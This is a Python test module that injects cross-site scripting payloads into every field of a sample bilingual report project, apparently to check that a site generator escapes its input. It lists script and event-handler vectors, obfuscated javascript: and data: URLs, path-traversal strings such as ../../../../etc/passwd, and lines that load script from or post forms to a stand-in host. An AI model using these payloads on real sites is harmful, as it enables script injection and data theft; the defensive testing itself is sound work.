"""Injection: what a source brings, in every field that reaches a page."""
from bed import BAD, EITHER, GOOD

MARKUP = {
    "script": "<script>zjx()</script>", "script in capitals": "<SCRIPT SRC=//zjx.example/>", "broken script": "<scr<script>ipt>zjx()</scr</script>ipt>", "end of script": "</script><script>zjx()</script>", "end of title": "</title><script>zjx()</script>",
    "image": "<img src=x onerror=zjx()>", "svg": "<svg onload=zjx()><script>zjx()</script></svg>", "svg animate": "<svg><animate xlink:href=#a attributeName=href values=javascript:zjx() /></svg>", "math": "<math><mtext><style><img src onerror=zjx()>", "style": "<style>*{background:url(//zjx.example)}</style>",
    "frame": "<iframe srcdoc='<script>zjx()</script>'></iframe>", "object": "<object data=javascript:zjx()>", "base": "<base href=//zjx.example/>", "meta": "<meta http-equiv=refresh content=0;url=javascript:zjx()>", "form": "<form action=//zjx.example><input name=zjx>", "template": "<template><script>zjx()</script></template>",
    "double quote": "\" onzjx=\"zjx()", "single quote": "' onzjx='zjx()", "no quote": " onzjx=zjx() ", "back tick": "`onzjx=zjx()`", "angle": "\"><zjx>", "single angle": "'><zjx>", "comment": "--><zjx><!--", "CDATA": "]]><zjx><![CDATA[", "entities": "&lt;zjx&gt;&#60;zjx&#62;&quot;onzjx=1",
    "braces": "{{title}}{{{body}}}{{#page}}{{/page}}{{> document}}", "delimiters": "{{=<% %>=}}<% zjx %>", "JSON": "\",\"zjx\":\"", "JSON end": "\\\"}</script><zjx>", "backslash": "\\", "line separator": "\u2028</script>\u2029<zjx>", "full-width": "＜script＞zjx()＜/script＞", "overlong entity": "&#x0000003c;zjx&#x000003e;",
    "style attribute": "<p style=position:fixed class=zjx id=zjx data-zjx=1>", "direction": "\u202e<zjx>\u202c", "tab tag": "<\tscript>zjx()</\tscript>", "slash tag": "<script/zjx>zjx()</script/zjx>", "NUL entity": "&#0;<zjx>", "newline": "<img\n src=x\n onerror=zjx()>", "noscript": "<noscript><p title=\"</noscript><img src=x onerror=zjx()>\">",
}

ADDRESSES = [
    "javascript:zjx()", "JaVaScRiPt:zjx()", " javascript:zjx()", "java\tscript:zjx()", "java&#10;script:zjx()", "javascript&colon;zjx()", "javascript&#58;zjx()", "&#106;avascript:zjx()", "&#x6A&#x61vascript:zjx()", "\\javascript:zjx()", "java%0ascript:zjx()", "%6aavascript:zjx()",
    "\x01javascript:zjx()", "\u00a0javascript:zjx()", "\u200bjavascript:zjx()", "\ufeffjavascript:zjx()", "\u3000javascript:zjx()", "javascript\u200b:zjx()", "ｊavascript:zjx()", "javascript：zjx()", "vbscript:zjx()", "livescript:zjx()", "mocha:zjx()", "data:text/html,<script>zjx()</script>", "DATA:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=zjx()>", "data:,zjx", "view-source:javascript:zjx()", "blob:https://zjx.example/1", "file:///etc/passwd", "filesystem:http://zjx.example/", "about:blank", "jar:http://zjx.example!/", "feed:javascript:zjx()", "ftp://zjx.example/", "ws://zjx.example", "intent://zjx", "//zjx.example/", "\\\\zjx.example\\x",
    "/\\zjx.example", "http:javascript:zjx()", "http://zjx.example/\"onzjx=\"zjx()", "http://zjx.example/'onzjx='zjx()", "http://zjx.example/><zjx>", "https://user:password@zjx.example/", "https://zjx.example/\u202egnp.exe", "mailto:zjx@example.org?body=<script>", "tel:<script>", "#\"onzjx=\"1", "?a=<zjx>", "../../../../etc/passwd", "a.md\" onzjx=\"1",
    "https://example.org//zjx.example/", "https://example.org/\\zjx.example/", "https://example.org///\\//zjx.example", "https://[::1", "https://zjx.example:99999999/", "http://", "https://", ":", "::", "%", "%zz", "x" * 5_000, "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+zjx()//'>",
]


def quoted(text):
    """A double-quoted YAML scalar."""
    out = ""
    for c in text:
        out += {"\\": "\\\\", '"': '\\"', "\n": "\\n", "\t": "\\t"}.get(c, c if c >= " " else "\\x%02x" % ord(c))
    return '"' + out + '"'


PROJECT = {
    "zhujie.yml": "title: §words\nstandfirst: §words\nlicence: §words\nbase-url: https://example.org/r/\n",
    "sources/a.md": """---
title: §quoted
publisher: §quoted
author: §quoted
date: 2025-03-13
url: https://example.org/a
siglum: §quoted
original: {title: §quoted, publisher: §quoted, date: 2025, url: https://example.org/b}
---
# 甲§bare乙

## 林遠§bare

林遠§bare在2025年§bare收入三千億元。

- 項§bare

> 引「話§bare」

| 甲§cell | 乙 |
|---|---|
| §cell | 1 |

[鏈§bare](https://example.org/x "§bare") ![圖§bare](x.png '§bare') `碼§bare` **重§bare** ~~刪§bare~~[^1]

```§bare
塊§bare
```

<div title="x">
§bare
</div>

[^1]: 注§bare

[^§bare]: 注

林總收入三千億元。
""",
    "sources/a.en.md": "---\ntitle: §quoted\n---\n# A §bare\n\n## Lin §bare\n\nText §bare.\n",
    "sources/b.txt": "題§bare\n\n文§bare。林遠。\n",
    "entities/people/lin-yuan.md": """---
names: {zh: 林遠, en: §quoted}
pinyin: §quoted
aliases: [{text: 林總, role: nickname}, {text: §quoted}]
roles: [{title: §words, at: far-hill, from: 2023, source: [a, 1]}]
relations: [{is: §quoted, target: far-hill}]
same-as: [§quoted]
---
人§bare，見[文§bare](../../sources/a.md)[@a 1]。

```cast
title: §words
people: [{entity: lin-yuan, role: §words, note: §words}]
```
""",
    "entities/people/lin-yuan.en.md": "Person §bare.\n",
    "entities/organizations/far-hill.md": "---\nnames: {zh: 遠山科技, en: Far Hill}\n---\n公司§bare。\n",
    "entities/events/launch.md": "---\nnames: {zh: 晨星發佈, en: §quoted}\ndate: 2025-03-13\n---\n§bare\n",
    "report/01-a.md": """---
title: §quoted
---
# 章§bare

文§bare[@a 1; @nowhere 5]。

```timeline
title: §words
note: §words
events:
- launch
- {text: §words, date: 2025, note: §words}
```

```stack
title: §words
layers:
- {text: §words, note: §words, members: [lin-yuan, {text: §words}]}
```

```chart
title: §words
unit: §words
bars:
- {text: §words, value: 3, written: §words}
```

```figures
figures:
- {value: §words, text: §words, check: one}
```

```members
form: tree
of: far-hill
members:
- {text: §words, members: [{text: §words}]}
```

```members
form: table
columns: [§words]
rows:
- {text: §words, cells: [§words]}
```

```members
form: cycle
members: [§words, §words, §words]
```

```network
nodes: [far-hill, lin-yuan]
links: [{from: lin-yuan, to: far-hill, text: §words}]
```
""",
    "report/01-a.en.md": "---\ntitle: §quoted\n---\n# Chapter §bare\n",
    "figures.yml": """figures:
- {id: income, metric: §words, subject: far-hill, period: 2025, note: §words, statements: [{value: 三千億元, source: [b, 1]}]}
checks:
- {that: income > 1, note: §words}
""",
    "contradictions.yml": "- {id: q, question: §words, entities: [lin-yuan], statements: [{text: §words, source: [b, 1]}, {text: §words, source: [b, 1]}], note: §words}\n",
    "glossary.yml": "rules:\n- {from: 遠山, to: §quoted, target: zh-Hans}\n",
    "decisions.yml": "- {quote: 林總收入, in: a, reads: §quoted}\n",
}


def project(payload):
    """A project that says `payload` wherever anything can be said."""
    text = quoted("甲" + payload + "乙")
    bare = payload.replace("\n", " ")
    places = {"§words": "{zh-Hant: §quoted, zh-Hans: §quoted, en: §quoted}", "§quoted": text, "§cell": bare.replace("|", "\\|"), "§bare": bare}
    files = {}
    for path, content in PROJECT.items():
        for place, words in places.items():
            content = content.replace(place, words)
        files[path] = content
    return files


def add(bed):
    for name, payload in MARKUP.items():
        files = project(payload)
        bed.add("everywhere: " + name, files)
        # One file at a time, so that a fault in one does not hide the others.
        base = project("文")
        for path in files:
            one = dict(base)
            one[path] = files[path]
            if name in ("script", "double quote", "single quote", "end of script", "braces", "image", "JSON end"):
                bed.add("%s in %s" % (name, path), one)
        for field in ("title", "publisher", "author", "date", "url", "lang", "siglum", "slug", "drop", "original", "unknown"):
            if name in ("script", "double quote"):
                bed.source("%s as %s" % (name, field), "---\n%s: %s\n---\n文。\n" % (field, quoted(payload)))
        if name in ("script", "double quote", "braces"):
            for field in ("title", "standfirst", "licence", "languages", "base-url", "sources", "limits"):
                bed.add("%s as %s of the project" % (name, field), {"sources/a.md": "文。\n", "zhujie.yml": "%s: %s\n" % (field, quoted(payload))})
        bed.source("bare: " + name, payload + "\n\n" + payload.replace("<", "\\<") + "\n\n<!-- " + payload + " -->\n", )
        bed.text("bare text: " + name, payload + "\n\n林遠" + payload + "\n")
    for i, address in enumerate(ADDRESSES):
        bare = address.replace("\n", "")
        text = "".join(shape % bare + "\n\n" for shape in [
            "[甲](<%s>)", "[甲](%s)", "![甲](<%s>)", "<%s>", "[甲][x%%]\n\n[x%%]: <%s>".replace("%%", ""), "[甲]\n\n[甲]: %s", "[甲](%s \"題\")", "%s", "<a href=\"%s\">甲</a>", "[甲](<%s> '\" onzjx=1')", "[@a 1](%s)", "![![甲](%s)](b)"])
        q = quoted(address)
        bed.add("address %d: %s" % (i, address[:30]), {
            "sources/a.md": "---\ntitle: 甲\nurl: %s\noriginal: {title: 乙, url: %s}\n---\n%s" % (q, q, text), "report/01-a.md": "# 章\n\n" + text,
            "entities/people/lin-yuan.md": "---\nnames: {zh: 林遠}\nsame-as: [%s]\n---\n%s" % (q, text)})
        bed.source("address %d in a text" % i, text)
        bed.source("address %d as url" % i, "---\nurl: %s\n---\n文。\n" % q)
        bed.add("address %d as base" % i, {"sources/a.md": "文。\n", "zhujie.yml": "base-url: %s\n" % q})
    for field in ("url: https://example.org/%s",):
        for name, payload in MARKUP.items():
            bed.source("in an address: " + name, "---\nurl: %s\n---\n[甲](<https://example.org/%s>)\n" % (quoted("https://example.org/" + payload.replace(" ", "")), payload.replace("\n", "")))
